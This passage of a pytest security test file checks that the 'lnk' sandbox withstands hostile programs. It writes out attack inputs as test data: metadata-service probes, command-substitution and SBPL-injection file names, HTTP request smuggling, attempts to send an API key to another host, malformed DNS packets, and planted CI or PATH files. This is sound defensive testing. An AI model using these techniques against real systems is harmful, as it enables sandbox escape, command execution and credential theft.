        return (b"LNKT\x01" + bytes([4 if fam == socket.AF_INET else 6]) +
                struct.pack(">H", port) + b.ljust(16, b"\0"))
    heads = [head(socket.AF_INET, "127.0.0.1", recorder.port),
             head(socket.AF_INET, f["HOST_SIDE_IP"], recorder.port),
             head(socket.AF_INET6, "::ffff:127.0.0.1", recorder.port),
             head(socket.AF_INET6, "::1", recorder.port),
             head(socket.AF_INET, "198.18.0.3", 80),
             head(socket.AF_INET, "169.254.169.254", 80),
             # a v4 head with bytes after its address, a bad magic, a
             # bad version, port 0, a short head
             head(socket.AF_INET, "198.18.0.3", 80)[:12] + b"\1" * 12,
             b"LNKX" + head(socket.AF_INET, "198.18.0.2", 80)[4:],
             b"LNKT\x02" + head(socket.AF_INET, "198.18.0.2", 80)[5:],
             head(socket.AF_INET, "198.18.0.2", 0),
             b"LNKT\x01\x04"]
    cp, _ = tp_net(lnk, f"""
        for h in {heads!r}:
            s = socket.create_connection(("127.0.0.1", 1081), timeout=5)
            s.sendall(h)
            try:
                v = s.recv(1)
                if v == b"\\0":
                    s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
                    print("CONNECTED", s.recv(100))
                else:
                    print("verdict", v)
            except OSError as e:
                print("closed", e.errno)
            s.close()
    """, "--internet-host", f["ORIGIN"])
    assert "CONNECTED" not in cp.stdout, cp.stdout + cp.stderr
    assert cp.stdout.count("\n") == len(heads), cp.stdout + cp.stderr
    assert recorder.hits == []


def test_datagrams_never_leave_the_sandbox(lnk):
    """Threat: UDP (DNS to another server, QUIC, a tunnel) or ICMP reaches
    a host outside, connected or not. A UDP server on this machine's
    address in the test network must never receive a byte."""
    import errno
    f = nethosts()
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.bind(("0.0.0.0", 0))
    u.settimeout(0.5)
    port = u.getsockname()[1]
    try:
        cp, _ = tp_net(lnk, f"""
            for dst in [("8.8.8.8", 53), ("{f['HOST_SIDE_IP']}", {port}),
                        ("{f['ORIGIN_IP']}", 443)]:
                s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                try:
                    s.sendto(b"x", dst); print(dst, "sendto SENT")
                except OSError as e:
                    print(dst, "sendto", e.errno)
                try:
                    s.connect(dst); s.send(b"y"); print(dst, "SENT")
                except OSError as e:
                    print(dst, "connect", e.errno)
            try:
                socket.socket(socket.AF_INET, socket.SOCK_RAW,
                              socket.IPPROTO_ICMP)
                print("RAW ICMP")
            except OSError as e:
                print("raw", e.errno)
        """, "--internet-host", "*")
        try:
            got = u.recv(10)
        except OSError:
            got = None
    finally:
        u.close()
    assert "SENT" not in cp.stdout and "RAW ICMP" not in cp.stdout, \
        cp.stdout + cp.stderr
    assert f"('8.8.8.8', 53) connect {errno.ECONNREFUSED}" in cp.stdout
    assert got is None
    out = lnk("sandbox", "log", "--json", "--lines", "50").stdout
    udp = [r for r in map(json.loads, out.splitlines()) if r["verb"] == "udp"]
    assert sorted(r["target"] for r in udp) == sorted(
        ["8.8.8.8:53", f"{f['HOST_SIDE_IP']}:{port}",
         f"{f['ORIGIN_IP']}:443"]), udp


def test_hostile_dns_queries_answered_or_dropped(lnk):
    """Threat: malformed queries (compression in the question, two
    questions, oversized labels, an answer instead of a question, a
    truncated message, a TCP length that lies) crash or hang the wire's
    resolver; afterwards it must still answer a granted name."""
    cp, f = tp_net(lnk, """
        import time
        q = lambda name: (b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00"
                          b"\\x00\\x00" + b"".join(bytes([len(l)]) + l
                          for l in name.split(b".")) + b"\\x00\\x00\\x01"
                          b"\\x00\\x01")
        bad = [b"", b"\\x00" * 5, b"\\x12\\x34\\x81\\x80" + b"\\x00" * 8,
               q(b"origin.lnk-test")[:12] + b"\\xc0\\x0c\\x00\\x01\\x00\\x01",
               q(b"origin.lnk-test").replace(b"\\x00\\x01\\x00\\x00",
                                             b"\\x00\\x02\\x00\\x00", 1),
               q(b"a" * 64 + b".lnk-test"), q(b"origin.lnk-test")[:-3],
               q(b"x" * 63 + b"." + b"y" * 63 + b"." + b"z" * 63 + b"." +
                 b"w" * 63), b"\\xff" * 4096]
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        u.settimeout(2)
        for b in bad:
            u.sendto(b, ("127.0.0.1", 53))
            try:
                r = u.recv(4096); print("answer", r[3] & 15)
            except OSError:
                print("dropped")
        t = socket.create_connection(("127.0.0.1", 53), timeout=3)
        t.sendall(b"\\xff\\xff" + b"\\x00" * 100)
        t.close()
        t = socket.create_connection(("127.0.0.1", 53), timeout=3)
        t.sendall(b"\\x00\\x05abc")
        t.close()
        print("good", socket.gethostbyname("origin.lnk-test"))
    """, "--internet-host", "origin.lnk-test")
    assert f"good {f['ORIGIN_IP']}" in cp.stdout, cp.stdout + cp.stderr
    assert "the wire" not in cp.stderr, cp.stderr


def test_transparent_metadata_trips_the_wire(lnk):
    """Threat: a program without proxy settings reaches for a cloud's
    metadata service by address; the wire refuses and pauses itself, so
    the next call (to a granted host) is refused too."""
    cp, f = tp_net(lnk, """
        print("meta", tcp(socket.AF_INET, ("169.254.169.254", 80)))
        print("next", tcp(socket.AF_INET, ("origin.lnk-test", 80)))
    """, "--internet-host", "*")
    assert "meta refused 111" in cp.stdout, cp.stdout + cp.stderr
    assert "next CONNECTED" not in cp.stdout, cp.stdout
    assert "wire paused" in cp.stderr, cp.stderr


def test_star_never_reaches_this_machine_without_proxy_variables(lnk):
    """Threat: the attacks of test_star_never_reaches_local_routes_or_on_link
    again, by a curl that ignores the proxy (--noproxy '*'): by address,
    by a name that resolves there, through a host pattern."""
    f = nethosts()
    targets = [f["ANYIP_IP"], "anyip.lnk-test", f["HOST_SIDE_IP"],
               "self.lnk-test", f["ROUTER_IP"], "router.lnk-test",
               "rebind.lnk-test", "mixed.lnk-test", "meta.lnk-test"]
    curl = "curl -s --noproxy '*' --max-time 10"
    script = f"{curl} -w ' ok %{{http_code}}\\n' http://{f['ORIGIN']}/hello.txt; "
    for t in targets:
        script += f"{curl} -w ' {t} %{{http_code}}\\n' http://{t}/secret.txt; "
    for grant in ("*", "*.lnk-test"):
        cp, _ = wire_net(lnk, script, "--internet-host", grant)
        assert "hello from origin" in cp.stdout, cp.stdout + cp.stderr
        assert "a server of this machine" not in cp.stdout, cp.stdout
        assert "hello from the router" not in cp.stdout, cp.stdout
        for t in targets:
            assert f" {t} 000" in cp.stdout, cp.stdout + cp.stderr
    reasons = refused_reasons(lnk)
    assert reasons[f"{f['ANYIP_IP']}:80"] == "address of this machine"
    assert reasons["anyip.lnk-test"] == "address of this machine"

# --- the macOS Seatbelt profile ---

def _sbpl_forms(text):
    """Reads an SBPL profile as Seatbelt's TinyScheme reader would: lists,
    symbols, "strings" with the escapes \\" \\\\ \\n \\t \\r only, #"regex"
    literals, ; comments. Returns the top-level forms as nested lists,
    strings as ('str', value); fails on anything else."""
    i, n = 0, len(text)

    def form():
        nonlocal i
        while i < n:
            c = text[i]
            if c in " \t\r\n":
                i += 1
            elif c == ";":
                while i < n and text[i] != "\n":
                    i += 1
            else:
                break
        assert i < n, "unended form"
        c = text[i]
        if c == "(":
            i += 1
            out = []
            while True:
                while i < n and text[i] in " \t\r\n":
                    i += 1
                assert i < n, "unbalanced ("
                if text[i] == ")":
                    i += 1
                    return out
                out.append(form())
        assert c != ")", "stray )"
        if c == '"':
            i += 1
            s = []
            while True:
                assert i < n, "unended string"
                ch = text[i]
                i += 1
                if ch == '"':
                    return ("str", "".join(s))
                assert ord(ch) >= 0x20 and ch != "\x7f", "raw control"
                if ch == "\\":
                    e = text[i]
                    i += 1
                    s.append({'"': '"', "\\": "\\", "n": "\n", "t": "\t",
                              "r": "\r"}[e])
                else:
                    s.append(ch)
        if text.startswith('#"', i):
            j = text.index('"', i + 2)
            r = text[i + 2:j]
            assert "\\" not in r and "\n" not in r
            i = j + 1
            return ("regex", r)
        j = i
        while j < n and text[j] not in ' \t\r\n();"':
            j += 1
        assert j > i, f"unexpected {c!r}"
        sym = text[i:j]
        i = j
        return sym

    forms = []
    while True:
        while i < n and text[i] in " \t\r\n":
            i += 1
        if i < n and text[i] == ";":
            while i < n and text[i] != "\n":
                i += 1
            continue
        if i >= n:
            return forms
        forms.append(form())


def test_seatbelt_profile_folder_names_cannot_add_rules(lnk, work):
    """Threat: a folder whose name holds a quote, a backslash, a newline or
    SBPL's own syntax ends the string it is written in and adds a rule
    to the printed profile, (allow default) or a write grant elsewhere.
    Every name stays one string, read back whole."""
    names = ['x") (allow default) (allow file-write* (subpath "',
             'a\\" (allow default)',
             'nl\n(allow default)\n;',
             '#"^.*" [regex]* (|)',
             "tab\there ; (allow network*)"]
    for name in names:
        d = work / name
        d.mkdir()
        cp = lnk("sandbox", "spec", "--seatbelt", "--write", d, cwd=work)
        assert cp.returncode == 0, cp.stderr
        forms = _sbpl_forms(cp.stdout)
        assert all(isinstance(f, list) and f and
                   f[0] in ("version", "allow", "deny") for f in forms)
        assert ["allow", "default"] not in forms
        written = []
        for f in forms:
            if f[0] == "allow" and "file-write*" in f:
                assert any(isinstance(x, list) for x in f), f
                written += [x[1][1] for x in f
                            if isinstance(x, list) and x[0] == "subpath"]
        assert written == [os.path.realpath(d)], written
        assert not any(f[0] == "allow" and any(
            isinstance(x, str) and x.startswith("network") for x in f[1:])
            for f in forms)


def test_seatbelt_profile_refuses_a_control_character(lnk, work):
    """Threat: a name SBPL has no escape for (an ESC) reaches the profile
    raw, or the terminal through the message. Refused, escaped."""
    d = work / "esc\x1b[2Jx"
    d.mkdir()
    cp = lnk("sandbox", "spec", "--seatbelt", "--write", d, cwd=work)
    assert cp.returncode == 2, cp.stderr
    assert cp.stdout == ""
    assert "control character" in cp.stderr
    assert "\x1b" not in cp.stderr

# --- model routes ---
# The route to a hosted model (--model): the key stays outside, the
# program cannot aim it at another host, nor reach the provider any other
# way, nor slip a second request past the reader. Provider, CA and key as
# in test_models.py.

def _model_env(f, key):
    return {"LNK_DNS_SERVER": f["LNK_DNS_SERVER"],
            "SSL_CERT_FILE": f["CA_FILE"], "FAKE_API_KEY": key}


def _model_net():
    import test_models
    f = nethosts()
    if not test_models.provider_up():
        if not IS_ROOT:
            pytest.skip("the fake provider is not up: run "
                        "tests/e2e/fake_provider.sh up as root")
        subprocess.run(["sh", str(pathlib.Path(__file__).parent /
                                  "fake_provider.sh"), "up"], check=True)
    return f, test_models


def test_model_route_opens_no_connect_to_the_provider(lnk, work):
    """Threat: the route is a way around the grants: the program CONNECTs
    (or SOCKS) to the provider's host itself, with no key added, or with
    TLS of its own that the wire cannot read."""
    f, tm = _model_net()
    script = ("curl -s -o /dev/null -w '%{http_code}\\n' --cacert "
              f"{f['CA_FILE']} https://origin.lnk-test:8443/v1/models; "
              "curl -s -o /dev/null -w '%{http_code}\\n' --proxy "
              "socks5h://127.0.0.1:1080 --cacert " + f["CA_FILE"] +
              " https://origin.lnk-test:8443/v1/models; "
              "curl -s -o /dev/null -w '%{http_code}\\n' "
              "http://origin.lnk-test:8443/v1/models")
    cp = lnk.run("--model", tm.CUSTOM, "--", "sh", "-c", script,
                 env=_model_env(f, tm.secret()), timeout=60)
    codes = cp.stdout.split()
    assert "200" not in codes, cp.stdout
    rows = lnk("sandbox", "log", "--json", check=True).stdout
    refused = [json.loads(l) for l in rows.splitlines()
               if json.loads(l)["outcome"] == "refused"]
    assert len(refused) == 3, rows
    assert all("not in the sandbox's grants" in r["reason"]
               for r in refused), refused


def test_model_route_cannot_aim_the_key_elsewhere(lnk, work):
    """Threat: the program makes the wire send the key to a host of its
    choice: a Host header, an absolute URL on the route's port, a path
    that climbs out of the base, a second route name that is not granted."""
    f, tm = _model_net()
    key, mark = tm.secret(), tm.uuid.uuid4().hex
    body = json.dumps({"model": "m-json", "mark": mark})
    script = ";".join([
        f"curl -s -o /dev/null -H 'Host: other.lnk-test' "
        f"\"$LNK_MODEL_FAKE_URL/chat/completions\" -d '{body}'",
        # the proxy's absolute form names loopback: refused there
        "curl -s -o /dev/null -w '%{http_code}\\n' --noproxy '' --proxy "
        "http://127.0.0.1:3128 \"$LNK_MODEL_FAKE_URL/chat/completions\" "
        f"-d '{body}'",
        "curl -s --path-as-is -o /dev/null -w '%{http_code}\\n' "
        "\"$LNK_MODEL_FAKE_URL/./chat/completions\" -d '{}'",
        "curl -s -o /dev/null -w '%{http_code}\\n' "
        "\"http://127.0.0.1:3128/model/FAKE/chat/completions\" -d '{}'",
    ])
    cp = lnk.run("--model", tm.CUSTOM, "--", "sh", "-c", script,
                 env=_model_env(f, key), timeout=60)
    assert cp.stdout.split() == ["403", "400", "403"], cp.stdout
    got = tm.received(mark)
    assert len(got) == 1, got
    assert got[0]["headers"]["host"] == ["origin.lnk-test:8443"]


def test_model_route_takes_one_request_per_connection(lnk, work):
    """Threat: a request smuggled behind the first on the same connection
    (a body longer than its Content-Length, a pipelined second request)
    reaches the provider with the key but without being read or logged."""
    f, tm = _model_net()
    key, mark = tm.secret(), tm.uuid.uuid4().hex
    first = json.dumps({"model": "m-json", "mark": mark + "-1"})
    second = json.dumps({"model": "m-json", "mark": mark + "-2"})
    smuggle = (f"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n"
               f"Content-Length: {len(second)}\r\n\r\n{second}")
    raw = (f"POST /model/fake/chat/completions HTTP/1.1\r\nHost: x\r\n"
           f"Content-Length: {len(first)}\r\n\r\n{first}"
           f"POST /model/fake/chat/completions HTTP/1.1\r\nHost: x\r\n"
           f"Content-Length: {len(second)}\r\n\r\n{second}" + smuggle)
    prog = ("import socket, sys\n"
            "s = socket.create_connection(('127.0.0.1', 3128))\n"
            "s.sendall(sys.argv[1].encode())\n"
            "out = b''\n"
            "while True:\n"
            "    b = s.recv(65536)\n"
            "    if not b: break\n"
            "    out += b\n"
            "print(out.count(b'HTTP/1.1 200'))\n")
    cp = lnk.run("--model", tm.CUSTOM, "--", "python3", "-c", prog, raw,
                 env=_model_env(f, key), timeout=60)
    assert cp.stdout.split() == ["1"], (cp.stdout, cp.stderr)
    assert len(tm.received(mark + "-1")) == 1
    assert tm.received(mark + "-2") == []


def test_model_route_probing_trips_the_wire(lnk, work):
    """Threat: a program guesses route names and paths without end; each
    refusal counts for the tripwire, which pauses the wire."""
    f, tm = _model_net()
    script = ("for i in $(seq 40); do curl -s -o /dev/null "
              "http://127.0.0.1:3128/model/guess$i/v1/models; done")
    cp = lnk.run("--model", tm.CUSTOM, "--", "sh", "-c", script,
                 env=_model_env(f, tm.secret()), timeout=120)
    # 20 different routes refused within 10 minutes, or 30 calls
    assert "wire paused: too many" in cp.stderr, cp.stderr


def test_model_key_cannot_be_passed_in_by_env(lnk, work):
    """Threat: a spec that grants a route also passes the route's key
    variable with [commands] env, so the key the route keeps outside is in
    the program's environment after all."""
    f = work / "app.toml"
    f.write_text('version = 1\n[internet]\nmodels = ["openai"]\n'
                 '[commands]\nenv = ["OPENAI_API_KEY"]\n')
    cp = lnk.run("--spec", f, "--yes", "--", "sh", "-c",
                 "echo $OPENAI_API_KEY", env={"OPENAI_API_KEY": "sk-real"})
    assert cp.returncode == 125, (cp.stdout, cp.stderr)
    assert "sk-real" not in cp.stdout
    assert "--env OPENAI_API_KEY would put the key" in cp.stderr

# --- attacker, second look ---

# Names a program or a repository chose, each a different way a pasted
# suggestion could become more than the one value lnk means: more words
# (more grants), a command substitution, a tilde, a quote of its own.
PASTED_NAMES = [
    "a --write ~ --write-dot-files ~ --internet-host *",
    "b;touch${IFS}pwned",
    "c$(touch pwned)`touch pwned`",
    "it's ~",
]


def _pasted_words(text, flag, tmp_path):
    """What a shell makes of the value lnk suggests after FLAG (the text up
    to ' allows it' or ' or '), pasted: the words bash gives a program."""
    start = text.index(flag + " ") + len(flag) + 1
    end = min(i for i in (text.find(" allows it", start),
                          text.find(" or [commands]", start)) if i > 0)
    cp = subprocess.run(["bash", "-c", 'printf "%s\\0" ' + text[start:end]],
                        capture_output=True, text=True, cwd=tmp_path,
                        env={"PATH": "/usr/bin:/bin", "HOME": str(tmp_path),
                             "IFS": " "})
    return cp.stdout.split("\0")[:-1]


@pytest.mark.parametrize("name", PASTED_NAMES)
def test_refused_program_suggestion_is_one_shell_word(lnk, work, tmp_path,
                                                      name):
    """Threat: a program names a file it made 'a --write ~ --internet-host
    *' (or '$(...)') and runs it; lnk's "--command X allows it" is what a
    user pastes to allow it, and pasted it would grant the whole home and
    the internet, or run a command. The suggested value must be exactly
    the path, one word, whatever the program chose."""
    cp = lnk.run("--write", work, "--command", PY, "--", PY, "-c",
                 "import os, shutil, sys\n"
                 "n = os.path.join(os.getcwd(), sys.argv[1])\n"
                 "shutil.copy('/bin/true', n); os.chmod(n, 0o755)\n"
                 "try: os.execv(n, [n])\n"
                 "except OSError: pass\n", name, cwd=work)
    line = [l for l in cp.stderr.splitlines() if "refused to run" in l]
    assert line, cp.stderr
    assert _pasted_words(line[0], "--command", tmp_path) == \
        [str(work / name)], line[0]
    assert not (tmp_path / "pwned").exists()


@pytest.mark.parametrize("name", PASTED_NAMES)
def test_script_interpreter_suggestion_is_one_shell_word(lnk, work,
                                                         tmp_path, name):
    """Threat: a cloned repository's script names an interpreter the
    repository holds, called 'x;touch${IFS}pwned'; lnk's "add --command X"
    for it, pasted, runs the repository's command as the user. A shebang
    ends at a blank, so a blank is written as ${IFS}."""
    name = name.replace(" ", "${IFS}")
    interp = work / name
    shutil.copy("/bin/sh", interp)
    script = work / "run.sh"
    script.write_text(f"#!{interp}\ntrue\n")
    script.chmod(0o755)
    cp = lnk.run("--write", work, "--command", "true", "--", script,
                 cwd=work)
    assert cp.returncode != 0 and "--command" in cp.stderr, cp.stderr
    assert _pasted_words(cp.stderr, "--command", tmp_path) == [name], \
        cp.stderr
    assert not (tmp_path / "pwned").exists()


# Files at the top of a project that a tool run outside later trusts: git
# LFS's .lfsconfig (lfs.url: where the next `git push` uploads the files a
# program wrote, and asks for credentials), git-review's .gitreview (the
# host the next `git review` pushes to over ssh), and the CI systems beside
# .github and .gitlab-ci.yml, which run a pushed file with the project's
# secrets.
TRUSTED_LATER_NAMES = [
    ".lfsconfig", ".gitreview", ".circleci", ".travis.yml", "Jenkinsfile",
    ".buildkite", "azure-pipelines.yml", "bitbucket-pipelines.yml",
    ".drone.yml", ".woodpecker.yml", ".woodpecker", ".gitea", ".forgejo",
    ".cirrus.yml"]


@pytest.mark.parametrize("name", TRUSTED_LATER_NAMES)
def test_files_tools_trust_later_not_created(lnk, work, name):
    """Threat: a program with no network plants .lfsconfig naming its own
    server, so the user's next `git push` carries what it wrote (secrets it
    read) there; or a CI file that runs at the next push with the
    project's secrets. Each is refused at the top of a write folder, and an
    existing one stays read only."""
    cp = sh(lnk, f"mkdir {name} 2>/dev/null || echo evil > {name}",
            "--write", work)
    assert not (work / name).exists(), cp.stderr
    (work / name).write_text("mine\n")
    cp = sh(lnk, f"echo evil >> {name}; mv {name} x; rm -f {name}",
            "--write", work)
    assert (work / name).read_text() == "mine\n", cp.stderr


def test_folders_on_path_not_planted(lnk, work):
    """Threat: the user runs lnk from a shell whose PATH starts with a
    folder inside the write folder (an activated virtualenv's .venv/bin,
    ~/go/bin); the program puts a `git` or `ls` there, or makes the
    missing folder, or moves the folder away and makes its own: the
    user's next command runs the program's file, as the user, outside.
    Every absolute PATH folder inside a write folder is kept read only and
    cannot be created or replaced."""
    venv = work / ".venv" / "bin"
    venv.mkdir(parents=True)
    gobin = work / "go" / "bin"
    path = f"{venv}:{gobin}:/usr/local/bin:/usr/bin:/bin"
    cp = lnk.run("--write", work, "--", "/bin/sh", "-c",
                 "echo evil > .venv/bin/git; mkdir -p go/bin; "
                 "echo evil > go/bin/ls; mv .venv v2; mkdir -p .venv/bin; "
                 "echo evil > .venv/bin/git; mv go g2; mkdir -p go/bin; "
                 "echo evil > go/bin/ls; chmod 0777 .venv/bin",
                 env={"PATH": path})
    assert not (venv / "git").exists(), cp.stderr
    assert not (gobin / "ls").exists() and not gobin.exists(), cp.stderr
    assert venv.stat().st_mode & 0o777 == 0o755, cp.stderr
    # what lifts the rest lifts this: the folder is the user's to give
    cp = lnk.run("--write", work, "--write-dot-files", work, "--",
                 "/bin/sh", "-c", "echo ok > .venv/bin/tool",
                 env={"PATH": path})
    assert (venv / "tool").exists(), cp.stderr

# --- shell completions: what lnk prints runs in the user's shell ---


HOSTILE_NAMES = ["$(touch pwned1)", "`touch pwned2`", "x;touch pwned3",
                 "${IFS}$(touch${IFS}pwned4)", "*"]


def test_completion_takes_sandbox_names_as_data(lnk, tmp_path):
    """Threat: a name the completion gets from lnk (a running sandbox's)
    holds shell syntax, and the completion script expands it in the user's
    interactive shell, as compgen -W or eval would. Names are data: offered
    as they are, never run. (lnk itself prints only names of the name
    grammar; a stub lnk here prints worse.)"""
    stub = tmp_path / "stub"
    stub.mkdir()
    names = "\n".join(HOSTILE_NAMES) + "\n"
    (stub / "lnk").write_text("#!/bin/sh\nprintf '%s' '" +
                              names.replace("'", "'\\''") + "'\n")
    (stub / "lnk").chmod(0o755)
    scripts = {}
    for shell in ("bash", "fish"):
        cp = lnk("sandbox", "completion", shell)
        assert cp.returncode == 0, cp.stderr
        scripts[shell] = tmp_path / f"lnk.{shell}"
        scripts[shell].write_text(cp.stdout)
    env = lnk.env({"PATH": f"{stub}:/usr/bin:/bin"})
    cwd = tmp_path / "cwd"
    cwd.mkdir()
    cp = subprocess.run(
        ["bash", "-c", 'source "$1"; COMP_WORDS=(lnk sandbox pause ""); '
         'COMP_CWORD=3; _lnk; printf "%s\\n" "${COMPREPLY[@]}"', "_",
         str(scripts["bash"])], cwd=str(cwd), env=env, capture_output=True,
        text=True, timeout=60)
    assert cp.returncode == 0, cp.stderr
    assert sorted(cp.stdout.splitlines()) == sorted(HOSTILE_NAMES)
    if shutil.which("fish"):
        cp = subprocess.run(
            ["fish", "--no-config", "-c",
             f"source {scripts['fish']}; complete -C 'lnk sandbox pause '"],
            cwd=str(cwd), env=env, capture_output=True, text=True,
            timeout=60)
        assert "`touch pwned2`" in cp.stdout, cp
    assert list(cwd.iterdir()) == [], "a name ran as a command"


def test_complete_prints_only_names_of_the_grammar(lnk, home):
    """Threat: the registry is edited (it is the user's own file, but a
    completion must not turn its text into commands): `lnk sandbox
    complete` prints only names of the name grammar."""
    import sqlite3
    p = subprocess.Popen([lnk.bin, "sandbox", "run", "--name", "good-name",
                          "--internet-host", "a.lnk-test", "--", "/bin/sh",
                          "-c", "read x"], cwd=str(lnk.cwd), env=lnk.env(),
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                         stderr=subprocess.PIPE)
    try:
        db = home / ".lnk" / "sandbox" / "lnk.db"
        deadline = time.monotonic() + 60
        while lnk("sandbox", "complete", "sandboxes").stdout != \
                "good-name\n":
            assert p.poll() is None and time.monotonic() < deadline
            time.sleep(0.1)
        con = sqlite3.connect(str(db), timeout=30)
        cols = [r[1] for r in con.execute("PRAGMA table_info(ctl_sandboxes)")]
        row = con.execute("SELECT * FROM ctl_sandboxes WHERE name = ?",
                          ("good-name",)).fetchone()
        bad = list(row)
        bad[cols.index("name")] = "$(touch pwned)"
        con.execute(f"INSERT INTO ctl_sandboxes VALUES "
                    f"({','.join('?' * len(bad))})", bad)
        con.commit()
        con.close()
        out = lnk("sandbox", "complete", "sandboxes").stdout
        assert out == "good-name\n", out
    finally:
        p.communicate(b"\n", timeout=60)


# --- log --follow: the program's words, live, on a terminal ---


def test_follow_escapes_what_the_program_named_and_colours_only_ours(
        lnk, work):
    """Threat: a program names hosts with terminal escapes while someone
    follows the log on a terminal; the follower prints them as they come.
    Every column is escaped, and the only escapes are lnk's colour."""
    import pty
    import re
    import select
    pid, fd = pty.fork()
    if pid == 0:
        os.chdir(str(lnk.cwd))
        os.execve(lnk.bin, [lnk.bin, "sandbox", "log", "-f"],
                  lnk.env({"TERM": "xterm"}))
    try:
        name = HOSTILE_BYTES + b".example"
        cp = py(lnk, PROXY_PRELUDE + textwrap.dedent(f"""
            socks(3, bytes([len({name!r})]) + {name!r}, 443)
            raw(3128, b"CONNECT follow-end.example:443 HTTP/1.1\\r\\n\\r\\n", 1)
        """), "--internet-host", "origin.lnk-test")
        assert cp.returncode == 0, cp.stderr
        got = b""
        while b"follow-end.example" not in got:
            r, _, _ = select.select([fd], [], [], 60)
            assert r, got
            got += os.read(fd, 65536)
        # the wire stores a name it refused with its odd bytes replaced;
        # whatever reaches the log, the follower escapes it again
        assert b"pwned" in got, got.decode("utf-8", "replace")
        ours = re.sub(rb"\x1b\[(31|33|0)m", b"", got)
        assert_clean(ours, "log -f on a terminal", allow_cr=True)
    finally:
        os.kill(pid, signal.SIGTERM)
        os.waitpid(pid, 0)
        os.close(fd)
    js = subprocess.Popen([lnk.bin, "sandbox", "log", "-f", "--json"],
                          cwd=str(lnk.cwd), env=lnk.env(),
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    try:
        got = b""
        while b"follow-end.example" not in got:
            r, _, _ = select.select([js.stdout], [], [], 60)
            assert r, got
            got += os.read(js.stdout.fileno(), 65536)
        assert_clean(got, "log -f --json")
        targets = [json.loads(l)["target"] for l in got.splitlines()]
        assert any("pwned" in t for t in targets), targets
    finally:
        js.terminate()
        js.communicate(timeout=30)


# --- where lnk finds its helpers ---


def test_helpers_beside_a_users_copy_of_lnk_are_not_taken(lnk, tmp_path):
    """Threat: lnk finds its helpers in PREFIX/lib/lnk beside its own
    folder, so an unpacked package runs where it lies. A user's own copy
    of lnk (~/bin/lnk) would then take ~/lib/lnk/lnk-init, which a sandbox
    with a --write of the home folder can plant: the program that confines
    the next sandbox. Only a tree that is root's alone counts."""
    if IS_ROOT:
        pytest.skip("root's own files are root's: the tree is trusted")
    prefix = tmp_path / "prefix"
    (prefix / "bin").mkdir(parents=True)
    (prefix / "lib" / "lnk").mkdir(parents=True)
    shutil.copy2(LNK, prefix / "bin" / "lnk")
    planted = prefix / "lib" / "lnk" / "lnk-init"
    planted.write_text("#!/bin/sh\nexit 0\n")
    planted.chmod(0o755)
    cp = subprocess.run([str(prefix / "bin" / "lnk"), "sandbox", "ready"],
                        capture_output=True, text=True, env=lnk.env(),
                        cwd=str(lnk.cwd), timeout=120)
    assert "lnk-init" in cp.stdout, cp.stdout
    assert str(planted) not in cp.stdout, cp.stdout
    cp = subprocess.run([str(prefix / "bin" / "lnk"), "sandbox", "run",
                         "--", "/bin/true"], capture_output=True,
                        text=True, env=lnk.env(), cwd=str(lnk.cwd),
                        timeout=120)
    assert str(planted) not in cp.stdout + cp.stderr


# --- lead: hidden folders that do not exist yet ---

def test_missing_hidden_folder_cannot_be_planted(lnk, home):
    """Threat: with --write '~' and no ~/Link yet, the program makes
    ~/Link/Agents a link (or a folder of its own); every later sandbox
    then refuses to start, or would be shown what the program put there.
    The path to a hidden folder that does not exist is kept like the
    folders that hold one: its names cannot be created."""
    link = home / "Link"
    if link.exists():
        shutil.rmtree(link)
    cp = sh(lnk, """
        mkdir -p ~/Link/Agents; echo mkdir=$?
        ln -s /tmp ~/Link; echo ln=$?
        true""", "--write", home)
    assert not link.exists() and not link.is_symlink(), cp.stdout
    assert "mkdir=0" not in cp.stdout and "ln=0" not in cp.stdout, cp.stdout
    cp = lnk.run("--write", home, "--", "true")
    assert cp.returncode == 0, cp.stderr

# --- tools ---
# A granted tool runs outside, as the user; the program talks to its broker
# over /run/lnk/tools.sock. These attacks speak that socket by hand, as a
# hostile program would, and check outside that no tool ran unless allowed.

TOOL_SCRIPT = """#!/bin/sh
echo "args:$*" >> "@OUT@/calls"
echo "cwd:$(pwd)"
"""

RAW_CALL = """
import array, os, socket, struct, sys
sys.stdout.reconfigure(line_buffering=True)  # in order with the tool's
def call(tool, cwd, args, fds=(0, 1, 2), raw=None):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.connect("/run/lnk/tools.sock")
    msg = raw if raw is not None else (
        b"LNKC" + struct.pack("<II", 1, 2 + len(args))
        + b"".join(x.encode() + b"\\0" for x in [tool, cwd, *args]))
    anc = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))]
    s.sendmsg([msg], anc if fds else [])
    r = s.recv(65536)
    s.close()
    return r
"""


def raw_py(lnk, code, *grants):
    """Python CODE in a sandbox, with call() to speak the socket by hand."""
    return lnk.run(*grants, "--", PY, "-c", RAW_CALL + textwrap.dedent(code),
                   timeout=60)


@pytest.fixture
def outside_tool(tmp_path, lnk):
    """'mytool' on lnk's PATH only; returns the folder it marks."""
    out = tmp_path / "toolout"
    out.mkdir()
    out.chmod(0o777)
    on_lnk_path(lnk, tmp_path / "toolbin", "mytool",
                TOOL_SCRIPT.replace("@OUT@", str(out)))
    return out


def tool_calls(out):
    f = out / "calls"
    return f.read_text().splitlines() if f.exists() else []


def test_tool_call_with_extra_descriptors_is_refused(lnk, outside_tool):
    """Threat: a call hands the tool a fourth descriptor (a socket or file
    of the program's) for the tool to use outside."""
    cp = raw_py(lnk, """
        r = call("mytool", "/", ["x"], fds=(0, 1, 2, 0))
        print(r[:1].decode(), r[1:].decode())
    """, "--tool", "mytool *")
    assert cp.stdout.startswith("R "), (cp.stdout, cp.stderr)
    assert "more than three descriptors" in cp.stdout
    assert tool_calls(outside_tool) == []


@pytest.mark.parametrize("raw,why", [
    ("b'hello'", "not a tool call"),
    ("b'LNKC' + struct.pack('<II', 9, 3) + b'mytool\\0/\\0x\\0'", "version"),
    ("b'LNKC' + struct.pack('<II', 1, 3) + b'mytool\\0/\\0x'", "cut short"),
    ("b'LNKC' + struct.pack('<II', 1, 99999) + b'mytool\\0/\\0' * 3",
     "more than 4096"),
    ("b'LNKC' + struct.pack('<II', 1, 2) + b'mytool\\0/\\0junk'", "after"),
])
